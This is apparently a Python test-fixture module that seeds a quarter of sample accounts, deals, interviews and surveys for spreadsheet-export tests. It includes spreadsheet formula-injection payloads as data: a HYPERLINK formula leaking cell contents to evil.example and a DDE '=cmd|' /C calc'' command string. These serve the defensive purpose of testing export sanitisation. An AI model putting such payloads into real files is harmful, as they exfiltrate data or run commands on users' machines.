"""Factories for export tests: a fully seeded quarter (2026-Q3) built directly with the models.

`seed_quarter` covers every sheet: value entries in and around the quarter (with
formula-looking titles), commitments due this quarter, next and later, key stakeholders
with summaries and sendings, deals with competitors, interviews (one anonymized with a
distinctive name, one blind) and loyalty pulses.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

from sqlmodel import Session

from valuetracker.models import (
    Account,
    Competitor,
    Deal,
    DealCompetitor,
    DecisionFactor,
    Distribution,
    FactorRating,
    InterviewQuote,
    LoyaltyPulse,
    Stakeholder,
    ValueCommitment,
    ValueEntry,
    ValueEntryBeneficiary,
    ValueSummary,
    WinLossInterview,
)

from .factories import make_account, make_stakeholder

QUARTER = "2026-Q3"
Q_START, Q_END = date(2026, 7, 1), date(2026, 9, 30)
# Today, for the tests: inside the quarter after next, so Q3's open commitments are overdue.
TODAY = date(2026, 11, 23)

# Text a spreadsheet would run as a formula if it were written as one.
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1", "-2+3",
           "@SUM(A1:A2)", "\t=1", "\r=2+2"]
ANONYMOUS_NAME = "Zebulon Quixote-Farnsworth"
ANONYMOUS_TITLE = "Chief Secrecy Officer"
BLIND_STAKEHOLDER = "Xanthippe Vorbeck"


def make_entry(session: Session, account: Account, amount: str, delivered_on: date,
               **kw: Any) -> ValueEntry:
    kw.setdefault("title", f"Entry {delivered_on.isoformat()}")
    kw.setdefault("driver", "revenue_growth")
    entry = ValueEntry(account_id=account.id, amount=Decimal(amount), delivered_on=delivered_on,
                       **kw)
    session.add(entry)
    session.flush()
    return entry


def make_commitment(session: Session, account: Account, due_on: date, **kw: Any
                    ) -> ValueCommitment:
    kw.setdefault("title", f"Commitment {due_on.isoformat()}")
    kw.setdefault("driver", "cost_reduction")
    commitment = ValueCommitment(account_id=account.id, due_on=due_on, **kw)
    session.add(commitment)
    session.flush()
    return commitment


def make_summary(session: Session, stakeholder: Stakeholder, quarter: str = QUARTER,
                 status: str | None = "sent", channel: str = "email") -> ValueSummary:
    summary = ValueSummary(account_id=stakeholder.account_id, stakeholder_id=stakeholder.id,
                           quarter=quarter, file_path=f"/tmp/{stakeholder.id}.pdf",
                           sha256="0" * 64,
                           generated_at=datetime(2026, 10, 2, 9, 0, tzinfo=UTC))
    session.add(summary)
    session.flush()
    if status is not None:
        session.add(Distribution(
            summary_id=summary.id, channel=channel, recipient=stakeholder.email, status=status,
            sent_at=datetime(2026, 10, 3, 10, 30, tzinfo=UTC) if status == "sent" else None))
        session.flush()
    return summary


def make_deal(session: Session, account: Account | None, outcome: str, amount: str,
              closed_on: date | None, competitors: tuple[Competitor, ...] = (),
              **kw: Any) -> Deal:
    deal = Deal(account_id=account.id if account else None,
                name=kw.pop("name", f"{account.name if account else 'Open'} {outcome} deal"),
                outcome=outcome, amount=Decimal(amount), closed_on=closed_on,
                primary_competitor_id=competitors[0].id if competitors else None, **kw)
    session.add(deal)
    session.flush()
    for competitor in competitors:
        session.add(DealCompetitor(deal_id=deal.id, competitor_id=competitor.id))
    session.flush()
    return deal


def make_interview(session: Session, deal: Deal, *, ratings: list[tuple[DecisionFactor, int]],
                   quotes: tuple[str, ...] = (), **kw: Any) -> WinLossInterview:
    kw.setdefault("status", "completed")
    kw.setdefault("completed_at", datetime(2026, 9, 20, 15, 0, tzinfo=UTC))
    interview = WinLossInterview(deal_id=deal.id, **kw)
    session.add(interview)
    session.flush()
    for factor, rating in ratings:
        session.add(FactorRating(interview_id=interview.id, factor_id=factor.id, rating=rating,
                                 importance=4,
                                 effect="win_driver" if rating >= 4 else "loss_driver"))
    for text in quotes:
        session.add(InterviewQuote(interview_id=interview.id, text=text, tags="pricing"))
    session.flush()
    return interview


def make_pulse(session: Session, stakeholder: Stakeholder, taken_on: date, satisfaction: int,
               intent: str, recommend: int, **kw: Any) -> LoyaltyPulse:
    pulse = LoyaltyPulse(stakeholder_id=stakeholder.id, account_id=stakeholder.account_id,
                         taken_on=taken_on, satisfaction=satisfaction,
                         repurchase_intent=intent, recommend=recommend, **kw)
    session.add(pulse)
    session.flush()
    return pulse


@dataclass
class Seeded:
    acme: Account
    globex: Account
    initech: Account
    hostile_entries: list[ValueEntry] = field(default_factory=list)


def seed_quarter(session: Session, cast: Any) -> Seeded:
    """Seed 2026-Q3 (and rows just outside it) for the cast's two accounts and a third."""
    acme, globex = cast.account1, cast.account2
    initech = make_account(session, "Initech", owner=cast.am2, segment="Enterprise",
                           tier="standard", annual_revenue=Decimal("5000"),
                           cost_to_serve=Decimal("9000"))
    s1, s2 = cast.stakeholder1, cast.stakeholder2
    gina = make_stakeholder(session, acme, "Gina User", buying_role="user")
    optout = make_stakeholder(session, acme, "Erin Optout", is_key=True,
                              opted_out_at=datetime(2026, 5, 1, tzinfo=UTC))
    gone = make_stakeholder(session, acme, "Frank Gone", is_key=True,
                            left_company_at=datetime(2026, 6, 1, tzinfo=UTC))
    blind = make_stakeholder(session, globex, BLIND_STAKEHOLDER, title="VP Secrets",
                             buying_role="decision_maker")
    seeded = Seeded(acme, globex, initech)

    # Value entries in the quarter ...
    e1 = make_entry(session, acme, "10000.00", date(2026, 7, 10), title="Faster onboarding",
                    evidence_status="confirmed", driver="revenue_growth")
    session.add(ValueEntryBeneficiary(entry_id=e1.id, stakeholder_id=s1.id))
    make_entry(session, acme, "2500.50", date(2026, 8, 3), driver="cost_reduction",
               title="Cheaper hosting")
    make_entry(session, acme, "1200.00", date(2026, 9, 30), driver="productivity",
               evidence_status="disputed", title="Report automation")
    make_entry(session, acme, "40", date(2026, 8, 20), unit="hours", driver="productivity",
               title="Hours saved")
    make_entry(session, globex, "7000.00", date(2026, 7, 1), driver="risk_reduction",
               evidence_status="confirmed", title="Audit passed")
    make_entry(session, globex, "300.00", date(2026, 9, 1), driver="customer_experience",
               title="Portal refresh")
    for n, text in enumerate(HOSTILE):
        seeded.hostile_entries.append(make_entry(
            session, globex, "-10.00" if n == 0 else "1.00", date(2026, 8, 1 + n), title=text,
            description=text, source=text, driver="strategic"))
    # ... and outside it (the YTD column counts May's, not last year's or October's).
    make_entry(session, acme, "5000.00", date(2026, 5, 15), title="Q2 win")
    make_entry(session, acme, "9999.00", date(2025, 12, 31), title="Last year")
    make_entry(session, acme, "8888.00", date(2026, 10, 1), title="Next quarter")

    # Commitments due in Q3 and Q4 (and outside both).
    make_commitment(session, acme, date(2026, 8, 1), status="delivered",
                    delivered_on=date(2026, 7, 30), expected_amount=Decimal("3000"))
    make_commitment(session, acme, date(2026, 9, 15), status="delivered",
                    delivered_on=date(2026, 9, 20))
    make_commitment(session, acme, date(2026, 9, 30), status="planned")
    make_commitment(session, acme, date(2026, 11, 15), status="in_progress")
    make_commitment(session, acme, date(2027, 1, 10), status="planned")
    make_commitment(session, acme, date(2026, 6, 30), status="delivered",
                    delivered_on=date(2026, 6, 1))
    make_commitment(session, globex, date(2026, 7, 15), status="missed",
                    title="=cmd|' /C calc'!A0")

    # Summaries: Carol's Q3 summary was sent; Dan's failed; Carol's Q2 one does not count.
    make_summary(session, s1)
    make_summary(session, s1, quarter="2026-Q2")
    make_summary(session, s2, status="failed")
    make_summary(session, optout, status="skipped")
    make_summary(session, gone)  # sent before he left: not counted, he is not eligible

    # Deals closed in Q3 with competitors; one closed in Q2 and an open one.
    microsoft = Competitor(name="Microsoft")
    oracle = Competitor(name="Oracle")
    session.add_all([microsoft, oracle])
    price = DecisionFactor(category="Commercial", name="Price")
    fit = DecisionFactor(category="Product", name="Product fit")
    session.add_all([price, fit])
    session.flush()
    won = make_deal(session, acme, "won", "50000", date(2026, 7, 20), (microsoft, oracle),
                    owner_id=cast.am1.id, product="Platform", rep_reason_id=fit.id)
    lost = make_deal(session, acme, "lost", "20000", date(2026, 8, 20), (oracle,),
                     name="+Acme expansion", rep_reason_id=price.id)
    globex_nd = make_deal(session, globex, "no_decision", "10000", date(2026, 9, 30))
    make_deal(session, globex, "won", "5000", date(2026, 9, 1), (microsoft,))
    old = make_deal(session, acme, "lost", "7777", date(2026, 6, 30), (microsoft,))
    make_deal(session, None, "open", "1234", None, name="Open prospect")

    make_interview(session, won, stakeholder_id=s1.id, ratings=[(fit, 5), (price, 3)],
                   quotes=("The fit was obvious.",))
    make_interview(session, lost, contact_name=ANONYMOUS_NAME, contact_title=ANONYMOUS_TITLE,
                   anonymity="anonymized", ratings=[(price, 1)],
                   quotes=("Too expensive for us.", "=1+1"))
    make_interview(session, globex_nd, stakeholder_id=blind.id, anonymity="blind",
                   ratings=[(fit, 2)])
    make_interview(session, old, contact_name="Old Quarter Person", ratings=[(price, 2)],
                   completed_at=datetime(2026, 7, 2, tzinfo=UTC))
    make_interview(session, won, contact_name="Not Done Yet", status="scheduled",
                   completed_at=None, ratings=[(fit, 4)])

    # Pulses in the quarter, and one before it.
    make_pulse(session, s1, date(2026, 4, 1), 2, "not_sure", 3)
    make_pulse(session, s1, date(2026, 8, 10), 5, "probably", 9, positive_emotion=True,
               emotion_text="-they stayed late", driver_ranking=["cost_reduction", "strategic"])
    make_pulse(session, s2, date(2026, 9, 1), 3, "definitely", 5, comment="@everyone")
    make_pulse(session, gina, date(2026, 7, 5), 4, "definitely", 8)
    session.commit()
    return seeded
